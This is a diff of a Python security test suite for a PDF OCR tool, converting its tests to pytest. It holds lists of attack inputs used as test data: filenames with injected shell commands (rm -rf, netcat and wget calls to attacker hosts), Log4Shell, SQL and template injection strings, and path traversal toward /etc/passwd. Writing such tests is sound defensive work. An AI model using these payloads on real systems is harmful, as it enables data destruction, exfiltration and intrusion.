@@ -13,24 +13,22 @@ Author: Security Team
 Version: 1.0.0
 """
 
-import unittest
+import contextlib
 import os
-import tempfile
-import shutil
 import logging
 from pathlib import Path
-from unittest.mock import patch, MagicMock, mock_open
+from unittest.mock import patch, Mock, MagicMock, mock_open
 import sys
-import io
+import tempfile
+import re
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
 
 # Add parent directory to path
 sys.path.insert(0, str(Path(__file__).parent.parent))
 
-# Mock external dependencies
-sys.modules['google.generativeai'] = MagicMock()
-sys.modules['pymupdf'] = MagicMock()
-sys.modules['PIL.Image'] = MagicMock()
-sys.modules['gradio'] = MagicMock()
+# External dependencies are stubbed in conftest.py
 
 import pdf_ocr
 import utils
@@ -40,30 +38,118 @@ try:
 except ImportError:
     gradio_app = MagicMock()
 
+TEST_API_KEY = "AIzaSyBxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+
+# Attack payloads, built once and shared by the parametrized tests
+MALICIOUS_FILENAMES = (
+    "test.pdf; rm -rf /",
+    "test.pdf && cat /etc/passwd",
+    "test.pdf | nc attacker.com 1337",
+    "test.pdf`whoami`",
+    "test.pdf$(id)",
+    "test.pdf;wget evil.com/shell.sh",
+)
+
+MALICIOUS_PROMPTS = (
+    "<script>alert('xss')</script>",
+    "'; DROP TABLE users; --",
+    "${jndi:ldap://evil.com/exploit}",
+    "{{7*7}}",  # Template injection
+    "<%=system('id')%>",  # Code injection
+    "\"; os.system('rm -rf /'); \"",
+    "eval(compile('__import__(\"os\").system(\"id\")', '<string>', 'exec'))",
+)
+
+MALICIOUS_FOLDERS = (
+    "../../../etc",
+    "/etc/passwd",
+    "folder; rm -rf /",
+    "folder`whoami`",
+    "folder$(id)",
+    "folder\x00/etc/passwd",
+)
+
+MALICIOUS_LOG_INPUTS = (
+    "Normal input\n2023-01-01 - ERROR - Fake error injected",
+    "Input\r\n[CRITICAL] System compromised",
+    "Test\x0a\x0d2023-01-01 - INFO - Admin logged in",
+    "Input\u2028[ERROR] Injection attempt",
+)
+
+MALICIOUS_SQL_INPUTS = (
+    "'; DROP TABLE users; --",
+    "1' OR '1'='1",
+    "admin'/*",
+    "' UNION SELECT * FROM secrets --",
+)
+
+MALICIOUS_URLS = (
+    "http://evil.com/malicious",
+    "ftp://attacker.com/data",
+    "file:///etc/passwd",
+    "gopher://evil.com:1337",
+)
+
+# Evidence of command execution in an error message
+_DANGEROUS_RE = re.compile(r"root|uid=|gid=|/bin/|/etc/passwd")
+# SQL metacharacters that sanitized input must not contain
+_SQL_META_RE = re.compile(r"'|;|--")
+# Lowercase hex digest produced by SHA-256
+_SHA256_HEX_RE = re.compile(r"[0-9a-f]{64}")
+
+
+def _probe_symlink_support() -> bool:
+    """Try one symlink in a scratch directory (may need privileges on Windows)"""
+    with tempfile.TemporaryDirectory() as probe_dir:
+        try:
+            os.symlink(probe_dir, os.path.join(probe_dir, "link"))
+        except (OSError, NotImplementedError):
+            return False
+    return True
+
+
+# Probed once at collection so unsupported platforms skip before setup
+_SYMLINKS = _probe_symlink_support()
+
+
+@pytest.fixture(scope="session")
+def ocr_factory(tmp_path_factory):
+    """Factory for OCR instances, each with its own input/output folders"""
+    def make(api_key=TEST_API_KEY, name="ocr"):
+        # Leave the folders for the OCR to create so their modes are its own
+        base = tmp_path_factory.mktemp(name)
+        return pdf_ocr.GeminiPDFOCR(
+            api_key=api_key,
+            input_folder=str(base / "input"),
+            output_folder=str(base / "output")
+        )
+    return make
+
+
+@pytest.fixture(scope="class")
+def ocr(ocr_factory):
+    """Shared OCR instance for tests that only inspect read-only state"""
+    return ocr_factory()
 
-class TestPathTraversalVulnerabilities(unittest.TestCase):
+
+class TestPathTraversalVulnerabilities:
     """Test path traversal attack protection"""
     
-    def setUp(self):
+    @pytest.fixture(autouse=True)
+    def _setup(self, tmp_path):
         """Set up test environment"""
-        self.test_dir = tempfile.mkdtemp()
+        self.test_dir = str(tmp_path)
         self.safe_dir = os.path.join(self.test_dir, "safe")
         self.restricted_dir = os.path.join(self.test_dir, "restricted")
-        os.makedirs(self.safe_dir)
-        os.makedirs(self.restricted_dir)
+        for directory in (self.safe_dir, self.restricted_dir):
+            os.makedirs(directory, exist_ok=True)
         
         # Create test files
         self.safe_file = os.path.join(self.safe_dir, "safe.txt")
         self.restricted_file = os.path.join(self.restricted_dir, "secret.txt")
         
-        with open(self.safe_file, 'w') as f:
-            f.write("Safe content")
-        with open(self.restricted_file, 'w') as f:
-            f.write("Restricted content")
-    
-    def tearDown(self):
-        """Clean up test environment"""
-        shutil.rmtree(self.test_dir, ignore_errors=True)
+        Path(self.safe_file).write_text("Safe content")
+        Path(self.restricted_file).write_text("Restricted content")
     
     def test_path_traversal_in_safe_file_read(self):
         """Test path traversal protection in utils.safe_file_read"""
@@ -73,7 +159,7 @@ class TestPathTraversalVulnerabilities(unittest.TestCase):
         result = utils.safe_file_read(malicious_path, base_dir=self.safe_dir)
         
         # Should be blocked by path traversal protection
-        self.assertIsNone(result)
+        assert result is None
     
     def test_absolute_path_traversal_attack(self):
         """Test protection against absolute path attacks"""
@@ -81,7 +167,7 @@ class TestPathTraversalVulnerabilities(unittest.TestCase):
         result = utils.safe_file_read(self.restricted_file, base_dir=self.safe_dir)
         
         # Should be blocked
-        self.assertIsNone(result)
+        assert result is None
     
     def test_pdf_ocr_output_path_validation(self):
         """Test path traversal protection in PDF OCR output saving"""
@@ -93,25 +179,22 @@ class TestPathTraversalVulnerabilities(unittest.TestCase):
         # Attempt path traversal in output filename
         malicious_output = os.path.join(self.safe_dir, "..", "restricted", "malicious.md")
         
-        with self.assertRaises(ValueError) as context:
+        with pytest.raises(ValueError) as context:
             ocr._save_to_file(["test content"], malicious_output)
         
-        self.assertIn("path traversal detected", str(context.exception))
+        assert "path traversal detected" in str(context.value)
     
+    @pytest.mark.skipif(not _SYMLINKS, reason="Symlinks not supported on this system")
     def test_symlink_path_traversal(self):
         """Test protection against symlink-based path traversal"""
         # Create symlink pointing outside safe directory
         symlink_path = os.path.join(self.safe_dir, "symlink_attack")
-        try:
-            os.symlink(self.restricted_file, symlink_path)
-            
-            result = utils.safe_file_read(symlink_path, base_dir=self.safe_dir)
-            
-            # Should be blocked (symlink points outside base_dir)
-            self.assertIsNone(result)
-        except OSError:
-            # Symlinks may not be supported on all systems
-            self.skipTest("Symlinks not supported on this system")
+        os.symlink(self.restricted_file, symlink_path)
+        
+        result = utils.safe_file_read(symlink_path, base_dir=self.safe_dir)
+        
+        # Should be blocked (symlink points outside base_dir)
+        assert result is None
     
     def test_double_encoded_path_traversal(self):
         """Test protection against double-encoded path traversal"""
@@ -121,7 +204,7 @@ class TestPathTraversalVulnerabilities(unittest.TestCase):
         result = utils.safe_file_read(encoded_path, base_dir=self.safe_dir)
         
         # Should be blocked
-        self.assertIsNone(result)
+        assert result is None
     
     def test_null_byte_injection(self):
         """Test protection against null byte injection attacks"""
@@ -131,172 +214,113 @@ class TestPathTraversalVulnerabilities(unittest.TestCase):
         result = utils.safe_file_read(null_byte_path, base_dir=self.safe_dir)
         
         # Should be blocked or handled safely
-        self.assertIsNone(result)
+        assert result is None
+
+
+@pytest.fixture(scope="class")
+def prompt_ocr(ocr_factory):
+    """OCR instance with a mocked model and an in-memory image, built once"""
+    # Mock OCR to capture prompts; plain specced Mocks skip MagicMock's
+    # magic-method setup
+    mock_model = Mock(spec=["generate_content"])
+    mock_response = Mock(spec=["text"])
+    mock_response.text = "Safe extracted text"
+    mock_model.generate_content.return_value = mock_response
+
+    ocr = ocr_factory(name="prompts")
+    ocr._model = mock_model
+
+    # Serve every Image.open from one cached image instead of disk
+    image = MagicMock()
+    image.size = (1, 1)
+    image.__enter__.return_value = image
+    test_image = os.path.join(ocr.input_folder, "test.png")
+
+    with patch.object(pdf_ocr.Image, 'open', return_value=image):
+        yield ocr, mock_model, test_image
 
 
-class TestInputInjectionAttacks(unittest.TestCase):
+class TestInputInjectionAttacks:
     """Test input injection attack protection"""
     
-    def setUp(self):
-        """Set up test environment"""
-        self.test_dir = tempfile.mkdtemp()
-    
-    def tearDown(self):
-        """Clean up test environment"""
-        shutil.rmtree(self.test_dir, ignore_errors=True)
-    
-    def test_command_injection_in_filenames(self):
+    @pytest.mark.parametrize("malicious_name", MALICIOUS_FILENAMES)
+    def test_command_injection_in_filenames(self, ocr, malicious_name):
         """Test protection against command injection in filenames"""
-        # Malicious filename with command injection
-        malicious_filenames = [
-            "test.pdf; rm -rf /",
-            "test.pdf && cat /etc/passwd",
-            "test.pdf | nc attacker.com 1337",
-            "test.pdf`whoami`",
-            "test.pdf$(id)",
-            "test.pdf;wget evil.com/shell.sh"
-        ]
+        # Should not execute commands - just fail safely
+        try:
+            ocr.process_pdf(malicious_name, verbose=False)
+        except FileNotFoundError:
+            # Expected - file doesn't exist
+            pass
+        except Exception as e:
+            # Should not contain evidence of command execution
+            assert not _DANGEROUS_RE.search(str(e).lower())
+    
+    @pytest.mark.parametrize("malicious_prompt", MALICIOUS_PROMPTS)
+    def test_script_injection_in_custom_prompts(self, prompt_ocr, malicious_prompt):
+        """Test protection against script injection in custom prompts"""
+        ocr, mock_model, test_image = prompt_ocr
+        # Reuse the mock; only its call history needs clearing
+        mock_model.reset_mock()
         
-        ocr = pdf_ocr.GeminiPDFOCR(
-            api_key="test_key",
-            input_folder=self.test_dir,
-            output_folder=self.test_dir
-        )
+        # Should sanitize or safely handle malicious prompts
+        result = ocr.extract_text_from_image(test_image, malicious_prompt)
         
-        for malicious_name in malicious_filenames:
-            with self.subTest(filename=malicious_name):
-                # Should not execute commands - just fail safely
-                try:
-                    ocr.process_pdf(malicious_name, verbose=False)
-                except FileNotFoundError:
-                    # Expected - file doesn't exist
-                    pass
-                except Exception as e:
-                    # Should not contain evidence of command execution
-                    error_msg = str(e).lower()
-                    dangerous_outputs = ['root', 'uid=', 'gid=', '/bin/', '/etc/passwd']
-                    for dangerous in dangerous_outputs:
-                        self.assertNotIn(dangerous, error_msg)
-    
-    def test_script_injection_in_custom_prompts(self):
-        """Test protection against script injection in custom prompts"""
-        malicious_prompts = [
-            "<script>alert('xss')</script>",
-            "'; DROP TABLE users; --",
-            "${jndi:ldap://evil.com/exploit}",
-            "{{7*7}}",  # Template injection
-            "<%=system('id')%>",  # Code injection
-            "\"; os.system('rm -rf /'); \"",
-            "eval(compile('__import__(\"os\").system(\"id\")', '<string>', 'exec'))"
-        ]
-        
-        # Mock OCR to capture prompts
-        mock_model = MagicMock()
-        mock_response = MagicMock()
-        mock_response.text = "Safe extracted text"
-        mock_model.generate_content.return_value = mock_response
-        
-        ocr = pdf_ocr.GeminiPDFOCR(api_key="test_key")
-        ocr._model = mock_model
-        
-        test_image = os.path.join(self.test_dir, "test.png")
-        with open(test_image, 'wb') as f:
-            f.write(b'fake_image_data')
-        
-        for malicious_prompt in malicious_prompts:
-            with self.subTest(prompt=malicious_prompt):
-                # Should sanitize or safely handle malicious prompts
-                result = ocr.extract_text_from_image(test_image, malicious_prompt)
-                
-                # Verify no code execution occurred
-                self.assertEqual(result, "Safe extracted text")
-                
-                # Check that prompt was passed to API (not executed locally)
-                mock_model.generate_content.assert_called()
-    
-    def test_path_injection_in_folder_names(self):
+        # Verify no code execution occurred
+        assert result == "Safe extracted text"
+        
+        # Check that prompt was passed to API (not executed locally)
+        mock_model.generate_content.assert_called()
+    
+    @pytest.mark.parametrize("malicious_folder", MALICIOUS_FOLDERS)
+    def test_path_injection_in_folder_names(self, malicious_folder):
         """Test protection against path injection in folder configuration"""
-        malicious_folders = [
-            "../../../etc",
-            "/etc/passwd",
-            "folder; rm -rf /",
-            "folder`whoami`",
-            "folder$(id)",
-            "folder\x00/etc/passwd"
-        ]
-        
-        for malicious_folder in malicious_folders:
-            with self.subTest(folder=malicious_folder):
-                # Should validate folder names in config
-                with self.assertRaises(ValueError):
-                    # Mock environment with malicious folder
-                    with patch.dict(os.environ, {'INPUT_FOLDER': malicious_folder}):
-                        import importlib
-                        importlib.reload(config)
-                        config.validate_config()
-    
-    def test_log_injection_attacks(self):
+        # Should validate folder names in config
+        # A valid key makes the folder check the one that must reject
+        with pytest.raises(ValueError, match="INPUT_FOLDER"):
+            # Swap the module attributes directly instead of reloading config
+            with patch.object(config, 'GEMINI_API_KEY', TEST_API_KEY), \
+                    patch.object(config, 'INPUT_FOLDER', malicious_folder):
+                config.validate_config()
+    
+    @pytest.mark.parametrize("malicious_input", MALICIOUS_LOG_INPUTS)
+    def test_log_injection_attacks(self, malicious_input, caplog):
         """Test protection against log injection attacks"""
-        # Malicious input designed to inject fake log entries
-        malicious_inputs = [
-            "Normal input\n2023-01-01 - ERROR - Fake error injected",
-            "Input\r\n[CRITICAL] System compromised",
-            "Test\x0a\x0d2023-01-01 - INFO - Admin logged in",
-            "Input\u2028[ERROR] Injection attempt"
-        ]
-        
         # Capture log output
-        log_stream = io.StringIO()
-        handler = logging.StreamHandler(log_stream)
+        caplog.set_level(logging.INFO, logger='test_logger')
         logger = logging.getLogger('test_logger')
-        logger.addHandler(handler)
-        logger.setLevel(logging.INFO)
-        
-        for malicious_input in malicious_inputs:
-            with self.subTest(input=malicious_input):
-                # Sanitize input before logging
-                sanitized = utils.validate_input(malicious_input)
-                logger.info(f"Processing input: {sanitized}")
-                
-                log_output = log_stream.getvalue()
-                
-                # Should not contain injected log entries
-                self.assertNotIn("Fake error injected", log_output)
-                self.assertNotIn("System compromised", log_output)
-                self.assertNotIn("Admin logged in", log_output)
-                
-                log_stream.truncate(0)
-                log_stream.seek(0)
-
-
-class TestAPIKeyExposure(unittest.TestCase):
-    """Test API key exposure in logs, errors, and other outputs"""
-    
-    def setUp(self):
-        """Set up test environment"""
-        self.test_api_key = "AIzaSyBxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
-        self.log_stream = io.StringIO()
         
-        # Setup test logger
-        self.logger = logging.getLogger('test_security')
-        self.handler = logging.StreamHandler(self.log_stream)
-        self.logger.addHandler(self.handler)
-        self.logger.setLevel(logging.DEBUG)
+        # Sanitize input before logging
+        sanitized = utils.validate_input(malicious_input)
+        logger.info(f"Processing input: {sanitized}")
+        
+        # Inspect the captured records directly rather than joining them
+        # into one formatted string
+        messages = [record.getMessage() for record in caplog.records]
+        
+        # Should not contain injected log entries
+        for injected in ("Fake error injected", "System compromised", "Admin logged in"):
+            assert not any(injected in message for message in messages)
+
+
+class TestAPIKeyExposure:
+    """Test API key exposure in logs, errors, and other outputs"""
     
-    def tearDown(self):
-        """Clean up test environment"""
-        self.logger.removeHandler(self.handler)
+    test_api_key = TEST_API_KEY
     
-    def test_api_key_not_in_logs(self):
+    def test_api_key_not_in_logs(self, ocr_factory, caplog):
         """Test that API keys are not logged"""
-        ocr = pdf_ocr.GeminiPDFOCR(api_key=self.test_api_key)
+        caplog.set_level(logging.DEBUG)
+        # Build after capture starts so the construction logs are seen
+        ocr_factory(api_key=self.test_api_key)
         
         # Get all log output
-        log_output = self.log_stream.getvalue()
+        log_output = caplog.text
+        assert "OCR processor initialized successfully" in log_output
         
         # API key should not appear in logs
-        self.assertNotIn(self.test_api_key, log_output)
-        self.assertNotIn("AIzaSyB", log_output)  # Partial key
+        assert self.test_api_key not in log_output
+        assert "AIzaSyB" not in log_output  # Partial key
     
     def test_api_key_not_in_error_messages(self):
         """Test that API keys don't appear in error messages"""
@@ -309,81 +333,71 @@ class TestAPIKeyExposure(unittest.TestCase):
             except Exception as e:
                 error_msg = str(e)
                 # API key should not be in error message
-                self.assertNotIn(self.test_api_key, error_msg)
+                assert self.test_api_key not in error_msg
     
-    def test_api_key_not_in_debug_output(self):
+    def test_api_key_not_in_debug_output(self, ocr_factory, caplog):
         """Test that API keys don't appear in debug output"""
         # Enable debug logging
-        self.logger.setLevel(logging.DEBUG)
-        
-        ocr = pdf_ocr.GeminiPDFOCR(api_key=self.test_api_key)
+        caplog.set_level(logging.DEBUG)
+        ocr = ocr_factory(api_key=self.test_api_key)
         
-        # Access model to trigger debug logging
-        try:
+        # Access model on a fresh instance so its debug logging runs
+        with contextlib.suppress(Exception):
             _ = ocr.model
-        except:
-            pass
         
-        debug_output = self.log_stream.getvalue()
+        debug_output = caplog.text
+        assert "Initialized Gemini model" in debug_output
         
         # API key should not appear in debug output
-        self.assertNotIn(self.test_api_key, debug_output)
+        assert self.test_api_key not in debug_output
     
     def test_api_key_not_in_exception_traceback(self):
         """Test that API keys don't appear in exception tracebacks"""
-        import traceback
-        
         try:
             # Force an exception that might include API key
             ocr = pdf_ocr.GeminiPDFOCR(api_key=self.test_api_key)
             with patch.object(ocr, 'model', side_effect=Exception("Model error")):
                 ocr.extract_text_from_image("nonexistent.png")
-        except Exception:
-            tb_str = traceback.format_exc()
-            # API key should not be in traceback
-            self.assertNotIn(self.test_api_key, tb_str)
-    
-    def test_api_key_not_in_repr_or_str(self):
+        except Exception as e:
+            # API key should not be in the exception chain; checking the
+            # messages avoids formatting the whole traceback
+            while e is not None:
+                assert self.test_api_key not in str(e)
+                e = e.__cause__ or e.__context__
+    
+    def test_api_key_not_in_repr_or_str(self, ocr):
         """Test that API keys don't appear in object representations"""
-        ocr = pdf_ocr.GeminiPDFOCR(api_key=self.test_api_key)
-        
         # Check string representations
         str_repr = str(ocr.__dict__)
         repr_repr = repr(ocr.__dict__)
         
         # API key should not be exposed in object representations
-        self.assertNotIn(self.test_api_key, str_repr)
-        self.assertNotIn(self.test_api_key, repr_repr)
+        assert self.test_api_key not in str_repr
+        assert self.test_api_key not in repr_repr
     
     def test_config_validation_error_no_key_exposure(self):
         """Test that config validation errors don't expose API keys"""
-        # Test with invalid API key
-        with patch.dict(os.environ, {'GEMINI_API_KEY': self.test_api_key}):
-            try:
-                import importlib
-                importlib.reload(config)
-                # Force validation with short key to trigger error
-                with patch.object(config, 'GEMINI_API_KEY', 'short'):
-                    config.validate_config()
-            except ValueError as e:
-                error_msg = str(e)
-                # Should not contain actual API key
-                self.assertNotIn(self.test_api_key, error_msg)
+        # Valid-looking key with an invalid folder, so validation fails
+        # while the key is loaded
+        with patch.object(config, 'GEMINI_API_KEY', self.test_api_key), \
+                patch.object(config, 'INPUT_FOLDER', '../invalid'):
+            with pytest.raises(ValueError) as context:
+                config.validate_config()
+        
+        # Should not contain actual API key
+        assert self.test_api_key not in str(context.value)
 
 
-class TestUnsafeFileOperations(unittest.TestCase):
+class TestUnsafeFileOperations:
     """Test unsafe file operation protection"""
     
-    def setUp(self):
+    @pytest.fixture(autouse=True)
+    def _setup(self, tmp_path):
         """Set up test environment"""
-        self.test_dir = tempfile.mkdtemp()
+        self.test_dir = str(tmp_path)
         self.safe_dir = os.path.join(self.test_dir, "safe")
         os.makedirs(self.safe_dir)
     
-    def tearDown(self):
-        """Clean up test environment"""
-        shutil.rmtree(self.test_dir, ignore_errors=True)
-    
     def test_temp_file_creation_security(self):
         """Test secure temporary file creation"""
         # Test that temp files are created with secure permissions
@@ -395,34 +409,23 @@ class TestUnsafeFileOperations(unittest.TestCase):
             file_mode = file_stat.st_mode
             
             # Should not be world-readable (no 004 bit)
-            self.assertEqual(file_mode & 0o004, 0)
+            assert file_mode & 0o004 == 0
             
             # Clean up
             os.unlink(temp_file)
     
-    def test_directory_creation_permissions(self):
-        """Test secure directory creation permissions"""
-        ocr = pdf_ocr.GeminiPDFOCR(
-            api_key="test_key",
-            input_folder=os.path.join(self.test_dir, "input"),
-            output_folder=os.path.join(self.test_dir, "output")
-        )
-        
-        # Check directory permissions
-        input_stat = os.stat(ocr.input_folder)
-        output_stat = os.stat(ocr.output_folder)
-        
+    @pytest.mark.parametrize("folder_attr", ["input_folder", "output_folder"])
+    def test_a05_directory_creation_permissions(self, ocr, folder_attr):
+        """Test secure directory creation permissions (OWASP A05: Security Misconfiguration)"""
         # Should have secure permissions (755 or similar)
-        expected_mode = 0o755
-        self.assertEqual(input_stat.st_mode & 0o777, expected_mode)
-        self.assertEqual(output_stat.st_mode & 0o777, expected_mode)
+        mode = os.stat(getattr(ocr, folder_attr)).st_mode & 0o777
+        assert mode == 0o755
     
     def test_file_overwrite_protection(self):
         """Test protection against accidental file overwrites"""
         # Create existing file
         existing_file = os.path.join(self.safe_dir, "existing.md")
-        with open(existing_file, 'w') as f:
-            f.write("Important existing content")
+        Path(existing_file).write_text("Important existing content")
         
         ocr = pdf_ocr.GeminiPDFOCR(
             api_key="test_key",
@@ -435,89 +438,63 @@ class TestUnsafeFileOperations(unittest.TestCase):
         # File should be overwritten (this is expected behavior)
         with open(existing_file, 'r') as f:
             content = f.read()
-            self.assertIn("New content", content)
+            assert "New content" in content
     
+    @pytest.mark.slow
     def test_race_condition_in_temp_file_creation(self):
         """Test protection against race conditions in temp file creation"""
-        import threading
-        import time
+        def create_temp_file_worker(_):
+            return utils.create_temp_file("test content", ".txt")
         
-        created_files = []
-        errors = []
-        
-        def create_temp_file_worker():
-            try:
-                temp_file = utils.create_temp_file("test content", ".txt")
-                if temp_file:
-                    created_files.append(temp_file)
-            except Exception as e:
-                errors.append(str(e))
-        
-        # Create multiple threads to test race conditions
-        threads = []
-        for _ in range(10):
-            thread = threading.Thread(target=create_temp_file_worker)
-            threads.append(thread)
-            thread.start()
-        
-        # Wait for all threads
-        for thread in threads:
-            thread.join()
-        
-        # Should not have race condition errors
-        self.assertEqual(len(errors), 0)
+        # Reuse pooled threads instead of spawning one per call; a worker
+        # exception propagates out of map() and fails the test
+        with ThreadPoolExecutor(max_workers=10) as executor:
+            results = list(executor.map(create_temp_file_worker, range(10)))
+        created_files = [temp_file for temp_file in results if temp_file]
         
         # All files should be unique
-        self.assertEqual(len(created_files), len(set(created_files)))
+        assert len(created_files) == len(set(created_files))
         
         # Clean up
         for temp_file in created_files:
-            try:
+            with contextlib.suppress(OSError):
                 os.unlink(temp_file)
-            except:
-                pass
     
+    @pytest.mark.skipif(not _SYMLINKS, reason="Symlinks not supported on this system")
     def test_symbolic_link_handling(self):
         """Test safe handling of symbolic links"""
         # Create a symbolic link
         target_file = os.path.join(self.safe_dir, "target.txt")
         symlink_file = os.path.join(self.safe_dir, "symlink.txt")
         
-        with open(target_file, 'w') as f:
-            f.write("Target content")
+        Path(target_file).write_text("Target content")
+        os.symlink(target_file, symlink_file)
         
-        try:
-            os.symlink(target_file, symlink_file)
-            
-            # Should handle symlinks safely
-            result = utils.safe_file_read(symlink_file, base_dir=self.safe_dir)
-            
-            # Should read through symlink if within base directory
-            self.assertEqual(result, "Target content")
-            
-        except OSError:
-            # Symlinks may not be supported
-            self.skipTest("Symlinks not supported on this system")
+        # Should handle symlinks safely
+        result = utils.safe_file_read(symlink_file, base_dir=self.safe_dir)
+        
+        # Should read through symlink if within base directory
+        assert result == "Target content"
 
 
-class TestOWASPTop10Vulnerabilities(unittest.TestCase):
+class TestOWASPTop10Vulnerabilities:
     """Test OWASP Top 10 vulnerabilities relevant to this application"""
     
+    @pytest.fixture(autouse=True)
+    def _setup(self, tmp_path):
+        """Set up test environment"""
+        self.test_dir = str(tmp_path)
+    
     def test_a01_broken_access_control(self):
         """Test A01: Broken Access Control"""
         # Test path traversal (covered above)
         # Test unauthorized file access
-        test_dir = tempfile.mkdtemp()
-        try:
-            restricted_file = os.path.join(test_dir, "restricted.txt")
-            with open(restricted_file, 'w') as f:
-                f.write("Restricted content")
-            
-            # Should not be able to access files outside allowed directories
-            result = utils.safe_file_read(restricted_file, base_dir="/nonexistent")
-            self.assertIsNone(result)
-        finally:
-            shutil.rmtree(test_dir, ignore_errors=True)
+        restricted_file = os.path.join(self.test_dir, "restricted.txt")
+        Path(restricted_file).write_text("Restricted content")
+        
+        # Should not be able to access files outside allowed directories
+        result = utils.safe_file_read(restricted_file, base_dir="/nonexistent")
+        assert result is None
     
     def test_a02_cryptographic_failures(self):
         """Test A02: Cryptographic Failures"""
@@ -526,61 +503,30 @@ class TestOWASPTop10Vulnerabilities(unittest.TestCase):
         hash_result = utils.generate_hash(test_data)
         
         # Should use SHA-256 (64 character hex string)
-        self.assertEqual(len(hash_result), 64)
-        self.assertTrue(all(c in '0123456789abcdef' for c in hash_result))
+        assert _SHA256_HEX_RE.fullmatch(hash_result)
         
         # Should be deterministic
         hash_result2 = utils.generate_hash(test_data)
-        self.assertEqual(hash_result, hash_result2)
+        assert hash_result == hash_result2
     
-    def test_a03_injection(self):
+    @pytest.mark.parametrize("malicious_input", MALICIOUS_SQL_INPUTS)
+    def test_a03_injection(self, malicious_input):
         """Test A03: Injection (covered in input injection tests above)"""
         # Additional test for SQL-like injection patterns
-        malicious_inputs = [
-            "'; DROP TABLE users; --",
-            "1' OR '1'='1",
-            "admin'/*",
-            "' UNION SELECT * FROM secrets --"
-        ]
-        
-        for malicious_input in malicious_inputs:
-            # Should sanitize input
-            sanitized = utils.validate_input(malicious_input)
-            
-            # Should remove dangerous characters
-            self.assertNotIn("'", sanitized)
-            self.assertNotIn(";", sanitized)
-            self.assertNotIn("--", sanitized)
+        # Should sanitize input
+        sanitized = utils.validate_input(malicious_input)
+        
+        # Should remove dangerous characters
+        assert not _SQL_META_RE.search(sanitized)
     
-    def test_a04_insecure_design(self):
+    def test_a04_insecure_design(self, ocr):
         """Test A04: Insecure Design"""
         # Test that sensitive operations require proper validation
-        ocr = pdf_ocr.GeminiPDFOCR(api_key="test_key")
-        
         # Should validate API key before use
-        self.assertIsNotNone(ocr.api_key)
-        self.assertTrue(len(ocr.api_key) > 0)
-    
-    def test_a05_security_misconfiguration(self):
-        """Test A05: Security Misconfiguration"""
-        # Test that default configurations are secure
-        
-        # Test file permissions
-        test_dir = tempfile.mkdtemp()
-        try:
-            ocr = pdf_ocr.GeminiPDFOCR(
-                api_key="test_key",
-                input_folder=os.path.join(test_dir, "input"),
-                output_folder=os.path.join(test_dir, "output")
-            )
-            
-            # Directories should have secure permissions
-            input_stat = os.stat(ocr.input_folder)
-            self.assertEqual(input_stat.st_mode & 0o777, 0o755)
-            
-        finally:
-            shutil.rmtree(test_dir, ignore_errors=True)
+        assert ocr.api_key is not None
+        assert len(ocr.api_key) > 0
     
+    @pytest.mark.forked
     def test_a06_vulnerable_components(self):
         """Test A06: Vulnerable and Outdated Components"""
         # Test that we're using secure versions of dependencies
@@ -592,7 +538,7 @@ class TestOWASPTop10Vulnerabilities(unittest.TestCase):
             try:
                 import pdf_ocr
                 # Should have fallback behavior
-                self.assertTrue(True)  # If we get here, fallback worked
+                assert True  # If we get here, fallback worked
             except ImportError:
                 # Should not crash the entire application
                 pass
@@ -602,70 +548,60 @@ class TestOWASPTop10Vulnerabilities(unittest.TestCase):
         # Test API key validation
         
         # Should reject empty API keys
-        with self.assertRaises(ValueError):
+        with pytest.raises(ValueError):
             pdf_ocr.GeminiPDFOCR(api_key="")
         
         # Should reject None API keys
-        with self.assertRaises(ValueError):
+        with pytest.raises(ValueError):
             pdf_ocr.GeminiPDFOCR(api_key=None)
     
     def test_a08_software_data_integrity_failures(self):
         """Test A08: Software and Data Integrity Failures"""
         # Test that file integrity is maintained
-        test_dir = tempfile.mkdtemp()
-        try:
-            test_content = "Test content for integrity check"
+        test_content = "Test content for integrity check"
+        
+        # Create and read file
+        temp_file = utils.create_temp_file(test_content, ".txt")
+        if temp_file:
+            read_content = utils.safe_file_read(temp_file)
             
-            # Create and read file
-            temp_file = utils.create_temp_file(test_content, ".txt")
-            if temp_file:
-                read_content = utils.safe_file_read(temp_file)
-                
-                # Content should match exactly
-                self.assertEqual(test_content, read_content)
-                
-                os.unlink(temp_file)
-        finally:
-            shutil.rmtree(test_dir, ignore_errors=True)
+            # Content should match exactly
+            assert test_content == read_content
+            
+            os.unlink(temp_file)
     
-    def test_a09_security_logging_monitoring_failures(self):
+    def test_a09_security_logging_monitoring_failures(self, caplog):
         """Test A09: Security Logging and Monitoring Failures"""
         # Test that security events are logged appropriately
-        log_stream = io.StringIO()
-        handler = logging.StreamHandler(log_stream)
-        logger = logging.getLogger('security_test')
-        logger.addHandler(handler)
-        logger.setLevel(logging.INFO)
+        caplog.set_level(logging.INFO, logger='security_test')
         
         # Simulate security event
-        try:
+        with contextlib.suppress(Exception):
             utils.safe_file_read("../../../etc/passwd", base_dir="/safe")
-        except:
-            pass
         
         # Should log security-relevant events
-        log_output = log_stream.getvalue()
+        log_output = caplog.text
         # Note: Current implementation may not log all security events
         # This test documents the expected behavior
     
-    def test_a10_server_side_request_forgery(self):
+    @pytest.mark.parametrize("malicious_url", MALICIOUS_URLS)
+    def test_a10_server_side_request_forgery(self, malicious_url):
         """Test A10: Server-Side Request Forgery (SSRF)"""
         # Not directly applicable to this application as it doesn't make
         # user-controlled HTTP requests, but test URL handling if any
         
         # Test that file paths can't be used to make network requests
-        malicious_urls = [
-            "http://evil.com/malicious",
-            "ftp://attacker.com/data",
-            "file:///etc/passwd",
-            "gopher://evil.com:1337"
-        ]
-        
-        for malicious_url in malicious_urls:
-            # Should not process URLs as file paths
-            result = utils.safe_file_read(malicious_url)
-            self.assertIsNone(result)
+        # Should not process URLs as file paths
+        result = utils.safe_file_read(malicious_url)
+        assert result is None
 
 
 if __name__ == '__main__':
-    unittest.main(verbosity=2)
\ No newline at end of file
+    import importlib.util
+    # Slow tests are left for full (nightly) runs
+    args = ["-m", "not slow", "-v", __file__]
+    if importlib.util.find_spec("xdist") is not None:
+        # loadscope hands each worker whole classes so class-scoped
+        # fixtures are built once; without pytest-xdist run serially
+        args = ["-n", "auto", "--dist", "loadscope"] + args
+    sys.exit(pytest.main(args))
\ No newline at end of file